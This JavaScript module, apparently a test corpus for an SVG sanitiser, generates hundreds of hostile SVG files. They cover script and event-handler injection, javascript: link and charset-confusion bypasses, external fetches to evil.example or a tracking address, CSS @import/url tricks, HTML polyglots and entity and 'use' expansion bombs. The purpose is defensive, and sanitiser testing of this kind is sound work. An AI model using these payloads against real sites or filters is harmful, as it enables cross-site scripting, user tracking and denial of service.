// Drawings that somebody might send who means harm: families of tricks that have passed other filters, written anew. Each would run something, or ask for
// something; `{hit}` is an address that notes who asks.

const SVG = 'xmlns="http://www.w3.org/2000/svg"';
const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const XHTML = 'xmlns:h="http://www.w3.org/1999/xhtml"';
/** What a program does: a mark on the document, and a request. */
const RUN = "document.documentElement.setAttribute('data-ran','1');new Image().src='{hit}'";
const drawing = (inside, attributes = '') =>
  `<svg ${SVG} ${XLINK} ${XHTML} width="200" height="200" viewBox="0 0 200 200" ${attributes}>${inside}</svg>`;
const box = '<rect width="200" height="200" fill="#9c9"/>';
const STRICT = '<!DOCTYPE svg PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "">';
const attribute = (text) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');

/** Elements that run. */
function scripts() {
  const plain = [
    `<script>${RUN}</script>`,
    `<script type="text/ecmascript">${RUN}</script>`,
    `<script type="module">${RUN}</script>`,
    `<script><![CDATA[${RUN}]]></script>`,
    `<script><!-- -->${RUN}</script>`,
    '<script href="{hit}"/>',
    '<script xlink:href="{hit}"/>',
    `<script href="data:text/javascript,${encodeURIComponent(RUN)}"/>`,
    `<h:script>${RUN}</h:script>`,
    '<h:script src="{hit}"/>',
    `<s:script xmlns:s="http://www.w3.org/2000/svg">${RUN}</s:script>`,
    `<script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
    `<SCRIPT>${RUN}</SCRIPT>`,
    `<scr&#105;pt>${RUN}</scr&#105;pt>`,
    `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler>`,
  ];
  const around = ['defs', 'g', 'symbol', 'a', 'title', 'desc', 'metadata', 'style', 'switch', 'text', 'pattern', 'mask', 'foreignObject', 'unknown', 'filter'];
  return [
    ...plain.map((inside) => drawing(box + inside)),
    ...around.map((name) => drawing(`${box}<${name}><script>${RUN}</script></${name}>`)),
    ...['foreignObject', 'title', 'desc', 'metadata'].map((name) => drawing(`${box}<${name} width="200" height="200"><h:body><h:script>${RUN}</h:script></h:body></${name}>`)),
    `<!--><script>${RUN}</script>-->${drawing(box)}`,
    `<?xml version="1.0"?><?php <script>${RUN}</script>?>${drawing(box)}`,
    `<root ${XHTML}><h:script>${RUN}</h:script>${drawing(box)}</root>`,
    `<html xmlns="http://www.w3.org/1999/xhtml"><body>${drawing(box)}<script>${RUN}</script></body></html>`,
    `<!DOCTYPE svg [<!ENTITY run "<script xmlns='http://www.w3.org/2000/svg'>${attribute(RUN)}</script>">]>${drawing(`${box}&run;`)}`,
    `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${attribute(RUN)}">]>${drawing(box)}`,
    `<!DOCTYPE svg [<!ATTLIST rect xmlns CDATA "http://www.w3.org/1999/xhtml">]>${drawing(`${box}<script>${RUN}</script>`)}`,
    `<!DOCTYPE svg [<!ENTITY % p "<!ENTITY run '<script/>'>"> %p;]>${drawing(`${box}&run;`)}`,
  ];
}

/** Attributes that run when something happens. */
function handlers() {
  const run = `="${attribute(RUN)}"`;
  const onRoot = ['onload', 'onLoad', 'ONLOAD', 'onclick', 'onmouseover', 'onmousemove', 'onmousedown', 'onmouseup', 'onpointerdown', 'onpointermove', 'onpointerover',
    'onfocus', 'onfocusin', 'onactivate', 'onresize', 'onscroll', 'onunload', 'onbeforeunload', 'onzoom', 'onabort', 'onerror', 'onkeydown', 'onwheel',
    'onanimationstart', 'onanimationend', 'ontransitionend', 'onpageshow', 'onhashchange', 'onmessage', 'ontoggle', 'onbeforematch', 'oncontentvisibilityautostatechange',
    'onsecuritypolicyviolation', 'onslotchange', 'ongotpointercapture', 'onauxclick', 'oncopy', 'onselectstart', 'ondragstart', 'on-load', 'onunknown'];
  const elsewhere = ['rect width="200" height="200"', 'g', 'a', 'text y="50"', 'use href="#x"', 'style', 'title', 'defs', 'symbol', 'linearGradient', 'stop', 'filter', 'feFlood', 'marker', 'mask'];
  const moving = ['onbegin', 'onend', 'onrepeat'].flatMap((name) =>
    ['animate attributeName="x" dur="1ms" repeatCount="2"', 'set attributeName="x" to="1" dur="1ms"', 'animateTransform attributeName="transform" type="scale" dur="1ms"', 'animateMotion dur="1ms"']
      .map((element) => drawing(`<rect width="200" height="200"><${element} ${name}${run}/></rect>`)));
  return [
    ...onRoot.map((name) => drawing(`<rect width="200" height="200" fill="#9c9" tabindex="0" autofocus="true"/>`, `${name}${run}`)),
    ...elsewhere.map((element) => drawing(`${box}<${element} onload${run} onclick${run} onmouseover${run}>${element.startsWith('text') ? 'words' : box}</${element.split(' ')[0]}>`)),
    ...moving,
    drawing(`<image href="{hit}-missing" onerror${run} width="9" height="9"/>`),
    drawing(`<image href="data:image/png;base64,AA" onerror${run} width="9" height="9"/>`),
    drawing(`<image href="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==" onload${run} width="9" height="9"/>`),
    drawing(`${box}<listener xmlns="http://www.w3.org/2001/xml-events" event="load" handler="#h"/><script id="h">${RUN}</script>`),
    drawing(box, `xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="javascript:${attribute(RUN)}"`),
    drawing(box, `on&#108;oad${run}`),
    drawing(box, `\u{feff}onload${run}`),
    drawing(box, `x:onload${run} xmlns:x="http://www.w3.org/2000/svg"`),
    drawing(`<h:details open="" ontoggle${run}>x</h:details>`),
    drawing(`<h:video autoplay="" onloadstart${run} src="{hit}"/>`),
    drawing(`<h:input autofocus="" onfocus${run}/>`),
  ];
}

/** The same bytes mean one thing to a reader of UTF-8, another to a browser that believes the declaration. */
function encodings() {
  const inside = [`<script>${RUN}</script>`, `<rect width="200" height="200" onload="${attribute(RUN)}" onclick="${attribute(RUN)}"/>`];
  const declared = (name) => `<?xml version="1.0" encoding="${name}"?>`;
  const escapes = { 'ISO-2022-JP': '\x1b(B', 'iso-2022-jp': '\x1b(J', 'csISO2022JP': '\x1b(B', 'ISO-2022-KR': '\x0f', 'ISO-2022-CN': '\x1b$)A\x0f', 'hz-gb-2312': '~{~}' };
  const all = [];
  for (const part of inside) {
    for (const [name, escape] of Object.entries(escapes)) all.push(Buffer.from(declared(name) + drawing(part.replace(/<(\w)/, `<${escape}$1`).replaceAll('onload', `${escape}onload`)), 'latin1'));
    for (const name of ['UTF-7', 'utf-7']) all.push(Buffer.from(declared(name) + drawing(part.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-').replaceAll('"', '+ACI-'))));
    for (const name of ['windows-1252', 'x-user-defined', 'GB18030', 'Shift_JIS', 'EUC-JP', 'Big5', 'EUC-KR', 'IBM037', 'UTF-16', 'UTF-32']) all.push(Buffer.from(declared(name) + drawing(part)));
    const wide = Buffer.from(`\u{feff}${drawing(part)}`, 'utf16le');
    all.push(wide, Buffer.from(wide).swap16(), Buffer.from(drawing(part), 'utf16le'));
    // An invalid beginning of a letter that swallows a quotation mark.
    all.push(Buffer.concat([Buffer.from(`<svg ${SVG} class="`), Buffer.from([0xc2]), Buffer.from(`">${part}</svg>`)]));
    all.push(Buffer.concat([Buffer.from(`<svg ${SVG} class="`), Buffer.from([0xe3, 0x81]), Buffer.from(`" id="">${part}</svg>`)]));
    for (const sign of ['\0', '\x01', '\x0b', '\x0c', '\x1b', '\x7f', '\u{85}', '\u{fffe}']) all.push(drawing(part.replace('<', `<${sign}`)));
  }
  return all;
}

/** Links that run when they are followed, and what writes such a link. */
function links() {
  const run = `javascript:${RUN}`;
  const addresses = [run, `JaVaScRiPt:${RUN}`, ` ${run}`, run.replace('a', '&#9;a'), run.replace('v', '&#10;v'), run.replace('s', '&#13;s'), `&#106;avascript:${RUN}`, `javascript&#58;${RUN}`,
    `&#1;${run}`, `\u{200b}${run}`, `javascript://%0a${RUN}`, `vbscript:${RUN}`, `data:text/html,<script>${RUN}</script>`, `data:image/svg+xml,${encodeURIComponent(drawing(`<script>${RUN}</script>`))}`,
    `feed:${run}`, `view-source:${run}`, `jar:${run}`, `blob:${run}`, 'http://evil.example/{hit}', '//evil.example/{hit}', '{hit}'];
  const quoted = (text) => text.replaceAll('"', '&quot;').replaceAll('<', '&lt;');
  const text = '<text y="100" font-size="80">CLICK</text>';
  const moved = [`<set attributeName="href" to="${quoted(run)}"/>`, `<set attributeName="xlink:href" to="${quoted(run)}"/>`, `<set attributeName="hr&#101;f" to="${quoted(run)}"/>`,
    `<set attributeName=" href " to="${quoted(run)}"/>`, `<animate attributeName="href" values="#x;${quoted(run)}" dur="1ms" fill="freeze"/>`,
    `<animate attributeName="href" from="#x" to="${quoted(run)}" dur="1ms" fill="freeze"/>`, `<animate attributeName="xlink:href" begin="0s" from="${quoted(run)}" to="&amp;"/>`,
    `<animate attributeName="href" keyTimes="0;1" values="${quoted(run)};x"/>`, `<animateTransform attributeName="href" to="${quoted(run)}"/>`,
    `<set attributeName="onclick" to="${quoted(RUN)}"/>`, `<set attributeName="style" to="fill:url({hit})"/>`, `<animate attributeName="fill" values="url({hit})" dur="9s"/>`,
    `<set attributeName="class" to="x"/>`];
  return [
    ...addresses.flatMap((address) => ['href', 'xlink:href'].map((name) => drawing(`<a ${name}="${quoted(address)}">${box}${text}</a>`))),
    ...addresses.slice(0, 4).map((address) => drawing(`<h:a href="${quoted(address)}">${text}</h:a><h:form action="${quoted(address)}"><h:button>CLICK</h:button></h:form>`)),
    ...moved.map((inside) => drawing(`<a>${inside}${box}${text}</a>`)),
    ...moved.map((inside) => drawing(`<a id="l">${box}${text}</a>${inside.replace(/^<(\w+)/, '<$1 href="#l"')}`)),
    `${STRICT}${drawing(`<a><set attributeName="hr&#101;f" to="javascript&colon;alert(1)"/>${box}${text}</a>`)}`,
    `${STRICT}${drawing(`<a href="java&Tab;script&colon;alert(1)">${box}${text}</a>`)}`,
    drawing(`<a href="x">${box}${text}</a>`, `xml:base="${quoted(run)}"`),
  ];
}

/** Elements that ask for something. */
function fetching() {
  const names = ['href', 'xlink:href'];
  const elements = ['image width="9" height="9"', 'use', 'feImage', 'linearGradient', 'radialGradient', 'pattern', 'textPath', 'mpath', 'tref', 'cursor', 'filter', 'altGlyph', 'color-profile name="x"', 'font-face-uri', 'animate', 'a', 'script', 'glyphRef', 'unknown'];
  const html = ['img src="{hit}"', 'img srcset="{hit} 1x"', 'source srcset="{hit}"', 'table background="{hit}"', 'body background="{hit}"', 'video src="{hit}"', 'video poster="{hit}"', 'audio src="{hit}"', 'source src="{hit}"',
    'track src="{hit}"', 'object data="{hit}"', 'embed src="{hit}"', 'iframe src="{hit}"', 'iframe srcdoc="&lt;img src={hit}&gt;"', 'link rel="stylesheet" href="{hit}"', 'link rel="preload" as="image" href="{hit}"',
    'link rel="prefetch" href="{hit}"', 'link rel="icon" href="{hit}"', 'link rel="dns-prefetch" href="//evil.example"', 'meta http-equiv="refresh" content="0;url={hit}"', 'base href="http://evil.example/"', 'input type="image" src="{hit}"',
    'frame src="{hit}"', 'portal src="{hit}"', 'applet code="{hit}"', 'p style="background:url({hit})"'];
  return [
    ...elements.flatMap((element) => names.map((name) => drawing(`${box}<g fill="none"><${element} ${name}="{hit}#x">${element === 'textPath' ? 'x' : ''}</${element.split(' ')[0]}></g>`))),
    ...['http://evil.example/', 'https://evil.example/', '//evil.example/', 'HTTP://EVIL.example/', ' {hit}', '&#47;{hit}', 'ftp://evil.example/', 'data:image/svg+xml,' + encodeURIComponent(`<svg ${SVG}><image href="{hit}"/></svg>`),
      'data:text/html,x', `data:image/png,<svg ${SVG}/>`.replaceAll('<', '&lt;').replaceAll('"', '&quot;'), 'data:image/png;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjwvc3ZnPg=='].map((address) => drawing(`${box}<image width="9" height="9" href="${address}"/>`)),
    ...html.map((element) => drawing(`${box}<h:${element}/>`)),
    ...html.slice(0, 16).map((element) => drawing(`<foreignObject width="200" height="200"><h:body><h:${element}/></h:body></foreignObject>`)),
    ...html.slice(0, 6).map((element) => drawing(`<switch><foreignObject width="200" height="200"><h:${element}/></foreignObject>${box}</switch>`)),
    drawing(`${box}<image width="9" height="9"><set attributeName="hr&#101;f" to="{hit}"/></image>`),
    drawing(`${box}<image width="9" height="9"><animate attributeName="href" values="{hit}" dur="9s"/></image>`),
    drawing(`${box}<image width="9" height="9"><set attributeName="xlink:href" to="{hit}"/></image>`),
    drawing(`${box}<filter id="f"><feImage><set attributeName="href" to="{hit}"/></feImage></filter><rect filter="url(#f)" width="9" height="9"/>`),
    drawing(`${box}<image width="9" height="9" href="#x"/>`, 'xml:base="http://evil.example/"'),
    drawing(`${box}<use href="x.svg#x"/>`, 'xml:base="http://evil.example/"'),
    drawing(`${box}<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{hit}"/>`),
    `<?xml-stylesheet href="{hit}"?>${drawing(box)}`,
    `<?xml-stylesheet type="text/xsl" href="{hit}"?>${drawing(box)}`,
    `<?xml-stylesheet type="text/css" href="data:text/css,*{background:url({hit})}"?>${drawing(box)}`,
    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?>${drawing(`<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" id="x" version="1.0"><xsl:template match="/"><h:script>${RUN}</h:script></xsl:template></xsl:stylesheet>`)}`,
    `<!DOCTYPE svg SYSTEM "{hit}">${drawing(box)}`,
    `<!DOCTYPE svg PUBLIC "x" "http://evil.example/x.dtd">${drawing(box)}`,
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "{hit}">]>${drawing(`<text>&x;</text>`)}`,
    `<!DOCTYPE svg [<!ENTITY % x SYSTEM "{hit}"> %x;]>${drawing(box)}`,
    `${STRICT}${drawing(`${box}<rect width="9" height="9" style="fill:url&lpar;{hit}&rpar;"/>`)}`,
  ];
}

/** Styles that ask for something. */
function styles() {
  const values = ['url({hit})', 'url("{hit}")', "url('{hit}')", 'url( {hit} )', 'URL({hit})', 'u\\72l({hit})', '\\75 rl({hit})', 'url(\\2f {hit})', 'image-set("{hit}" 1x)', '-webkit-image-set(url({hit}) 1x)', 'cross-fade(url({hit}), url({hit}), 50%)',
    '-webkit-cross-fade(url({hit}), url({hit}), 50%)', 'image("{hit}")', 'src("{hit}")', 'url({hit}) , red', 'none,url({hit})', 'url(#x),url({hit})', 'var(--x, url({hit}))', '/**/url(/**/{hit})', 'url({hit}', 'url(data:image/svg+xml,%3Csvg/%3E)',
    'expression(alert(1))', 'url(//evil.example/x)', 'u&#114;l({hit})', 'url(&#123;hit})'];
  const properties = ['fill', 'stroke', 'filter', 'mask', 'clip-path', 'marker-start', 'cursor', 'background', 'background-image', 'list-style-image', 'content', 'border-image-source', '-webkit-mask-image', 'mask-image', 'shape-outside', '--x', 'offset-path', '-moz-binding', 'behavior', 'font'];
  const rules = ['@import "{hit}";', "@import url({hit});", '@IMPORT "{hit}";', '@\\69mport "{hit}";', '@im/**/port "{hit}";', '/**/@import/**/"{hit}"/**/;', '@import "{hit}" layer(x);', '@import "{hit}" supports(display:block) screen;', '@charset "x";@import "{hit}";',
    '<!-- @import "{hit}"; -->', '@media all{rect{background:url({hit});fill:url({hit})}}', '@supports (fill:red){rect{background-image:url({hit})}}', '@layer x{rect{background:url({hit})}}', '@font-face{font-family:x;src:url({hit})}text{font-family:x}', '@font-face{font-family:x;src:local("x"),url("{hit}") format("woff2")}text{font-family:x}',
    '@namespace url({hit});', '@counter-style x{symbols:url({hit})}', '@property --x{syntax:"<image>";inherits:true;initial-value:url({hit})}', '@keyframes k{from{background:url({hit})}to{background:url({hit})}}rect{animation:k 1s}', '@page{background:url({hit})}', '@container x{rect{background:url({hit})}}',
    '@scope{rect{background:url({hit})}}', '@starting-style{rect{background:url({hit})}}', 'rect{fill:red;}}@import "{hit}";', 'rect{fill:"}@import \'{hit}\';{";background:url({hit})}', 'rect{--x:{background:url({hit})}}', 'rect{& {background:url({hit})}}', 'rect{color:red;rect &{background:url({hit})}}',
    'rect::before{content:url({hit})}', ':root{background:url({hit})}', 'svg{background:url({hit})}', '*{cursor:url({hit}),auto}', 'rect:hover{background:url({hit})}', 'rect[width^="2"]{background:url({hit})}', 'rect:is(*){background:url({hit})}', 'rect:not(x){background:url({hit})}',
    'rect{background:url({hit}', 'rect{background:url("{hit}', '\\72 ect{background:url({hit})}', 'rect{fill:url(#x);background:ur\\l({hit})}', 'rect{b\\61 ckground:url({hit})}', 'rect{/*}*/background:url({hit})}', 'rect{background:url({hit})!important}', 'rect,{},rect{background:url({hit})}', 'x|rect{background:url({hit})}', 'rect{src:url({hit})}'];
  const line = '<line x1="0" y1="0" x2="99" y2="99" stroke="red"/>';
  const text = '<text y="99">words</text>';
  return [
    ...values.map((value) => drawing(`${box}<rect width="200" height="200" style="background:${attribute(value).replaceAll('&amp;#', '&#')};fill:${attribute(value).replaceAll('&amp;#', '&#')}"/>`, `style="background-image:${attribute(value).replaceAll('&amp;#', '&#')}"`)),
    ...values.slice(0, 12).map((value) => drawing(`<style>rect{fill:${value};background:${value}} svg{background-image:${value}}</style>${box}`)),
    ...properties.map((property) => drawing(`<g style="${property}:url({hit})">${line}${text}${box}</g>`, `style="${property}:url({hit})"`)),
    ...properties.slice(0, 7).map((property) => drawing(`<g ${property}="url({hit}#x)">${line}${text}${box}</g>`)),
    ...rules.map((rule) => drawing(`<style>${rule}</style>${text}${box}`)),
    ...rules.slice(0, 20).map((rule) => drawing(`<style><![CDATA[${rule}]]></style>${text}${box}`)),
    drawing(`<style>@import "{hit}";<g></g></style>${box}`),
    drawing(`<style>@im<!-- -->port "{hit}";</style>${box}`),
    drawing(`<style>@im<?x ?>port "{hit}";</style>${box}`),
    drawing(`<style>&#64;import "{hit}";</style>${box}`),
    drawing(`<style type="text/css" media="all">@import "{hit}";</style>${box}`),
    drawing(`<h:style>@import "{hit}"; svg{background:url({hit})}</h:style>${box}`),
    drawing(`<style href="{hit}"/><style src="{hit}"/>${box}`),
    drawing(`<defs><style>@import "{hit}";</style></defs>${box}`),
    drawing(`<title><style>@import "{hit}";</style></title>${box}`),
  ];
}

/** What is a drawing to one reader and a page to another: opened as HTML too. */
function mixed() {
  const page = '<img src="{hit}" onerror="' + RUN + '">';
  const parts = [
    `<title>${attribute(page)}</title>`, `<desc><![CDATA[${page}]]></desc>`, `<title><![CDATA[</title>${page}]]></title>`, `<style><![CDATA[</style>${page}]]></style>`, `<style>${attribute(`</style>${page}`)}</style>`,
    `<style>a{font-family:'${attribute(`</style>${page}`)}'}</style>`, `<text font-family="'${attribute(`"><img src='{hit}'>`)}'">x</text>`, `<g id="${attribute(`"><script>${RUN}</script>`)}"/>`, `<g class="${attribute(`'>${page}`)}"/>`,
    `<use href="#${attribute(`"><script>${RUN}</script>`)}"/>`, `<g aria-label="${attribute(`-->${page}`)}"/>`, `<text>${attribute(`]]>${page}`)}</text>`, `<text>--&gt;${attribute(page)}</text>`, `<!-- --!>${page.replaceAll('<', '')} -->`, `<desc>&lt;/desc&gt;${attribute(page)}</desc>`,
    `<text><tspan>${attribute(`<noscript>${page}</noscript>`)}</tspan></text>`, `<metadata><![CDATA[${page}]]></metadata>`, `<g data-x="${attribute(page)}"/>`, `<a href="#${attribute(page)}"><text y="50">CLICK</text></a>`,
    `<linearGradient id="a" href="#${attribute(page)}"/>`, `<text lang="${attribute(page)}">x</text>`, `<style>.${'a'.repeat(9)}{fill:red}${attribute(`/*</style>${page}*/`)}</style>`, `<g style="font-family:'x';fill:url(#${attribute('"><img>')})"/>`,
    `<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><h:style>${page.replace('>', '/>')}</h:style></mtext></math>`, `<foreignObject><h:textarea>${attribute(page)}</h:textarea></foreignObject>`,
    `<h:template><h:script>${RUN}</h:script></h:template>`, `<path d="${attribute(`M0 0"/><script>${RUN}</script>`)}"/>`, `<g transform="${attribute(`scale(1)"><img src={hit}>`)}"/>`,
  ];
  return parts.map((inside) => drawing(box + inside));
}

/** A few bytes that would keep a browser busy for ever. */
function heavy() {
  const levels = (make) => Array.from({ length: 9 }, (_, level) => make(level)).join('');
  const ten = (text) => text.repeat(10);
  return [
    drawing(`<g id="a0">${ten('<rect width="1" height="1"/>')}</g>${levels((level) => `<g id="a${level + 1}">${ten(`<use href="#a${level}"/>`)}</g>`)}`),
    drawing(`<g id="a0">${ten('<rect width="1" height="1"/>')}</g>${levels((level) => `<g id="a${level + 1}">${ten(`<use xlink:href="#a${level}"/>`)}</g>`)}`),
    drawing(`<symbol id="a0">${ten('<rect width="1" height="1"/>')}</symbol>${levels((level) => `<symbol id="a${level + 1}">${ten(`<use href="#a${level}" x="${level}"/>`)}</symbol>`)}<use href="#a9"/>`),
    drawing(`<pattern id="a0" width="1" height="1">${ten('<rect width="1" height="1"/>')}</pattern>${levels((level) => `<pattern id="a${level + 1}" width="1" height="1">${ten(`<rect width="9" height="9" fill="url(#a${level})"/>`)}</pattern>`)}<rect width="99" height="99" fill="url(#a9)"/>`),
    drawing(`<style>${levels((level) => `.c${level}{fill:url(#a${level})}`)}</style><pattern id="a0" width="1" height="1">${ten('<rect width="1" height="1"/>')}</pattern>${levels((level) => `<pattern id="a${level + 1}" width="1" height="1">${ten(`<rect width="9" height="9" class="c${level}"/>`)}</pattern>`)}<rect width="99" height="99" fill="url(#a9)"/>`),
    drawing(`<pattern id="a0" width="1" height="1">${ten('<rect width="1" height="1"/>')}</pattern>${levels((level) => `<g fill="url(#a${level})"><pattern id="a${level + 1}" width="1" height="1">${ten('<rect width="9" height="9"/>')}</pattern></g>`)}<rect width="99" height="99" style="fill:url(#a9)"/>`),
    drawing(`<mask id="a0">${ten('<rect width="1" height="1"/>')}</mask>${levels((level) => `<mask id="a${level + 1}">${ten(`<rect width="9" height="9" mask="url(#a${level})"/>`)}</mask>`)}<rect width="99" height="99" mask="url(#a9)"/>`),
    drawing(`<clipPath id="a0">${ten('<rect width="1" height="1"/>')}</clipPath>${levels((level) => `<clipPath id="a${level + 1}">${ten(`<rect width="9" height="9" clip-path="url(#a${level})"/>`)}</clipPath>`)}<rect width="99" height="99" clip-path="url(#a9)"/>`),
    drawing(`<marker id="m">${'<rect width="1" height="1"/>'.repeat(2000)}</marker><path d="M0 0${'l1 1'.repeat(2000)}" marker-mid="url(#m)"/>`),
    drawing(`<g style="marker:url(#m)"><marker id="m">${'<circle r="1"/>'.repeat(2000)}</marker><polyline points="${'1 1 '.repeat(2000)}"/></g>`),
    drawing(`<filter id="f">${'<feTurbulence numOctaves="9"/>'.repeat(900)}</filter><rect width="99" height="99" filter="url(#f)"/>`),
    drawing(`<style>${Array.from({ length: 4000 }, (_, rule) => `*{fill:url(#p${rule})}`).join('')}</style>${'<g/>'.repeat(50_000)}`),
    drawing(`<g id="a"><use href="#a"/><use href="#a"/></g>`),
    drawing(`<g id="a"><use href="#b"/></g><g id="b"><use href="#%61"/></g>`),
    '<svg xmlns="http://www.w3.org/2000/svg">' + '<g>'.repeat(100_000) + '</g>'.repeat(100_000) + '</svg>',
    '<svg xmlns="http://www.w3.org/2000/svg">' + '<g>'.repeat(100_000),
    `<!DOCTYPE svg [<!ENTITY a0 "aaaaaaaaaa">${levels((level) => `<!ENTITY a${level + 1} "${ten(`&a${level};`)}">`)}]>${drawing('<text>&a9;</text>')}`,
    // Ids that a browser finds by another name than they are written with.
    ...[['aA', 'a%41'], ['a\u00ff', 'a%c3%bf']].map(([id, address]) =>
      drawing(`<g id="${id}0"><rect width="5" height="5"/></g>${Array.from({ length: 25 }, (_, level) => `<g id="${id}${level + 1}">${`<use href="#${address}${level}"/>`.repeat(2)}</g>`).join('')}`)),
    // Few elements, each of which takes long.
    drawing(`<style>g{filter:${'blur(9px) '.repeat(50)}}</style>${'<g>'.repeat(90)}<rect width="999" height="999"/>${'</g>'.repeat(90)}`),
    drawing(`<rect width="999" height="999" style="filter:${'blur(9px) '.repeat(3000)}"/>`),
    drawing(`<filter id="f"><feTurbulence numOctaves="10" baseFrequency=".9"/></filter>${'<rect width="999" height="999" filter="url(#f)"/>'.repeat(390)}`),
    drawing(`<g id="a0" opacity=".9" style="mix-blend-mode:multiply"><circle r="900"/></g>${Array.from({ length: 14 }, (_, level) => `<g id="a${level + 1}">${`<use href="#a${level}"/>`.repeat(2)}</g>`).join('')}`),
    drawing('<circle r="900"/>'.repeat(30_000)),
    // Painted before it is copied.
    drawing(`<pattern id="p" width="1" height="1">${'<rect width="1" height="1"/>'.repeat(2000)}</pattern><g id="r">${'<rect width="9" height="9"/>'.repeat(2000)}</g><use fill="url(#p)" href="#r"/>`),
    drawing(`<path id="p" d="${'M0 0l9 9'.repeat(100_000)}"/>${'<use href="#p"/>'.repeat(10_000)}`),
  ];
}

/** The families by name. */
export const FAMILIES = { scripts, handlers, encodings, links, fetching, styles, mixed };
/** Those whose harm is in their size. */
export const HEAVY = heavy();

/** All drawings but the heavy ones: name and bytes. `hit` gives the address that notes who asks. */
export function hostile(hit) {
  return Object.entries(FAMILIES).flatMap(([family, make]) =>
    make().map((made, number) => {
      const name = `${family}-${String(number).padStart(3, '0')}`;
      const aimed = (text) => text.replaceAll('{hit}', hit(name));
      // What is no UTF-8 stays byte for byte.
      const bytes = Buffer.isBuffer(made) ? Buffer.from(aimed(made.toString('latin1')), 'latin1') : Buffer.from(aimed(made));
      return { name, bytes };
    }),
  );
}
